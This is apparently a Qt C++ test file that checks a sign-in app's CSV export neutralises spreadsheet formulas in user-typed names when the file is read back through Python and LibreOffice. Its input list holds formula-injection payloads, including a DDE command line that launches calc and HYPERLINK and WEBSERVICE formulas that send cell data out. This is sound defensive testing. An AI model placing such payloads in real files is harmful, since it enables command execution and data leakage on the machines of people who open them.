// SPDX-License-Identifier: GPL-3.0-or-later
#include "exporting/export.h"
#include "storagetest.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTest>

using namespace foyer;
using namespace foyer::exporting;
using foyer::test::makeSignIn;
using foyer::test::msOf;

namespace {

constexpr int kPatienceMs = 120'000;

/// What strangers may type for a name.
QStringList hostileTexts()
{
    return {u"Ann"_qs,
            u""_qs,
            u"say \"hi\""_qs,
            u"\""_qs,
            u"\"\"\"\""_qs,
            u"a,b;c\td|e"_qs,
            u"two\r\nlines"_qs,
            u"two\nlines"_qs,
            u"two\rlines"_qs,
            u"\n"_qs,
            u"ends with a break\r\n"_qs,
            u"\",\"\r\n\",\""_qs,
            u"=1+1"_qs,
            u"+1+1"_qs,
            u"-1+1"_qs,
            u"@SUM(A1:A9)"_qs,
            u" =1+1"_qs,
            u"\t=1+1"_qs,
            u"\r=1+1"_qs,
            u"\n=1+1"_qs,
            u"＝1+1"_qs,
            u"=cmd|' /C calc'!A0"_qs,
            u"=HYPERLINK(\"https://example.com/?\"&B2,\"Click\")"_qs,
            u"=WEBSERVICE(\"https://example.com/\")"_qs,
            u"x,=1+1"_qs,
            u"x\r\n=1+1"_qs,
            u"'"_qs,
            u"'=1+1"_qs,
            u"Zoë 🏨 👩‍👩‍👧 🇩🇪"_qs,
            u"\u202Eمرحبا\u202C שלום"_qs,
            u"\u2066\u200F\u2069"_qs,
            u"\uFEFFmark"_qs,
            u"a"_qs + QChar(u'\0') + u"b"_qs,
            u"\u0001\u0007\u001B[31m\u007F"_qs,
            u"\u0085\u2028\u2029"_qs,
            u"<b>&amp;</b>"_qs,
            u"\\\"\\n"_qs,
            QString(10'000, u'x'),
            QString(10'000, u'"'),
            QString(5'000, u'=') + QString(5'000, u',')};
}

bool isFormula(const QString &text)
{
    static const QRegularExpression runs(u"^(?:[\\t\\r]|[\\x00-\\x20]*[=+\\-@＝＋－＠])"_qs);
    return runs.match(text).hasMatch();
}

/// What the file holds for \a text.
QString safe(const QString &text)
{
    return isFormula(text) ? QString(u'\'' + text) : text;
}

/// What a spreadsheet's file can hold of \a text: no control characters, and one kind of line break.
QString inSpreadsheet(QString text)
{
    text.replace(u"\r\n"_qs, u"\n"_qs);
    text.replace(u'\r', u'\n');
    text.removeIf([](QChar each) { return each < u' ' && each != u'\t' && each != u'\n'; });
    return text;
}

QJsonArray rowsOf(const QStringList &arguments)
{
    QProcess python;
    python.start(u"python3"_qs,
                 QStringList(qEnvironmentVariable("FOYER_SOURCES") + u"/tests/support/csvcells.py") +
                     arguments);
    if (!python.waitForFinished(kPatienceMs) || python.exitCode() != 0)
        qWarning("%s", python.readAllStandardError().constData());
    return QJsonDocument::fromJson(python.readAllStandardOutput()).array();
}

} // namespace

/// What strangers typed comes out of the file as it went in, in other people's programs, and runs in none.
class TestCsvRoundTrip final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void throughPython_data();
    void throughPython();
    void oneColumnThroughPython();
    void throughLibreOffice();

private:
    /// Exports to the file of that name; its path.
    QString exported(const QString &name, const ExportOptions &options) const;
    static bool has(const QString &program);

    test::ReceivingFolder m_folder;
    QTemporaryDir m_files;
};

void TestCsvRoundTrip::initTestCase()
{
    std::vector<SignIn> signIns;
    qint64 id = 0;
    for (const QString &text : hostileTexts()) {
        ++id;
        SignIn signIn = makeSignIn(id, 10, msOf("2026-11-20T08:00:00Z") + id * 1'000);
        signIn.profile.firstName = text;
        signIn.profile.email = text;
        signIns.push_back(signIn);
    }
    m_folder.receive(signIns);
}

QString TestCsvRoundTrip::exported(const QString &name, const ExportOptions &options) const
{
    QFile file(m_files.filePath(name));
    const auto rows = file.open(QIODevice::WriteOnly)
                          ? exportCsv(m_folder.connect()->database(), options, file)
                          : Result<qint64>(0);
    if (!rows || *rows != hostileTexts().size())
        qFatal("the export failed");
    return file.fileName();
}

/// Where nobody reads what was skipped it must not pass for tested.
bool TestCsvRoundTrip::has(const QString &program)
{
    if (!QStandardPaths::findExecutable(program).isEmpty())
        return true;
    if (qEnvironmentVariableIsSet("CI"))
        qFatal("%s is not installed.", qPrintable(program));
    return false;
}

void TestCsvRoundTrip::throughPython_data()
{
    QTest::addColumn<ExportOptions>("options");
    const QByteArrayList columns{"first_name", "visitor_id", "email"};
    QTest::newRow("comma") << ExportOptions{.columns = columns};
    QTest::newRow("semicolon, mark") << ExportOptions{
        .columns = columns, .delimiter = ';', .byteOrderMark = true};
    QTest::newRow("tab") << ExportOptions{.columns = columns, .delimiter = '\t'};
    QTest::newRow("as they are") << ExportOptions{.columns = columns, .rawFormulas = true};
}

void TestCsvRoundTrip::throughPython()
{
    if (!has(u"python3"_qs))
        QSKIP("python3 is not installed.");
    QFETCH(ExportOptions, options);
    const QString file = exported(u"python.csv"_qs, options);
    const QJsonArray rows = rowsOf({file, QString(QLatin1Char(options.delimiter))});
    const QStringList texts = hostileTexts();
    QCOMPARE(rows.size(), texts.size() + 1);
    for (qsizetype i = 0; i < texts.size(); ++i) {
        const QString text = options.rawFormulas ? texts[i] : safe(texts[i]);
        const QJsonArray row = rows[i + 1].toArray();
        QCOMPARE(row.size(), 3);
        QCOMPARE(row[1].toString(), QString::number(i + 1));
        for (const qsizetype cell : {0, 2}) {
            QString read = row[cell].toString();
            if (!read.contains(QChar(0))) // An older Python's has another sign.
                read.replace(QChar::ReplacementCharacter, QChar(0));
            QCOMPARE(read, text);
        }
    }
}

/// A person without an email has a row too.
void TestCsvRoundTrip::oneColumnThroughPython()
{
    if (!has(u"python3"_qs))
        QSKIP("python3 is not installed.");
    const QString file = exported(u"column.csv"_qs, {.columns = {"email"}});
    const QJsonArray rows = rowsOf({file, u","_qs});
    const QStringList texts = hostileTexts();
    QCOMPARE(rows.size(), texts.size() + 1);
    for (const QJsonValue row : rows)
        QCOMPARE(row.toArray().size(), 1);
    QCOMPARE(rows[texts.indexOf(QString()) + 1].toArray()[0].toString(), QString());
}

void TestCsvRoundTrip::throughLibreOffice()
{
    if (!has(u"soffice"_qs))
        QSKIP("LibreOffice is not installed.");
    const QString name = exported(u"libreoffice.csv"_qs, {.columns = {"first_name", "visitor_id", "email"}});
    QFile file(name); // And one cell that shows that formulas do run.
    QVERIFY(file.open(QIODevice::Append) && file.write("=1+1,0,\"=2+2\"\r\n") > 0);
    file.close();

    // Comma, double quote, UTF-8, from the first line on; as willing to run formulas as it can be.
    QProcess office;
    office.start(u"soffice"_qs,
                 {u"-env:UserInstallation=file://"_qs + m_files.filePath(u"profile"_qs), u"--headless"_qs,
                  u"--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true"_qs, u"--convert-to"_qs,
                  u"fods"_qs, u"--outdir"_qs, m_files.path(), name});
    QVERIFY(office.waitForFinished(kPatienceMs));
    QVERIFY2(office.exitCode() == 0, office.readAllStandardError().constData());

    const QJsonArray rows = rowsOf({m_files.filePath(u"libreoffice.fods"_qs)});
    const QStringList texts = hostileTexts();
    QVERIFY2(rows.size() >= texts.size() + 2, office.readAllStandardError().constData());
    for (qsizetype i = 0; i < texts.size(); ++i) {
        const QJsonArray row = rows[i + 1].toArray();
        QCOMPARE(row[1].toString(), QString::number(i + 1));
        for (const qsizetype cell : {0, 2}) {
            QVERIFY2(row[cell].isString(), qPrintable(texts[i].left(100)));
            QCOMPARE(row[cell].toString(), inSpreadsheet(safe(texts[i])));
        }
    }
    QVERIFY(rows[texts.size() + 1].toArray()[0].isObject());
}

QTEST_GUILESS_MAIN(TestCsvRoundTrip)
#include "tst_csvroundtrip.moc"
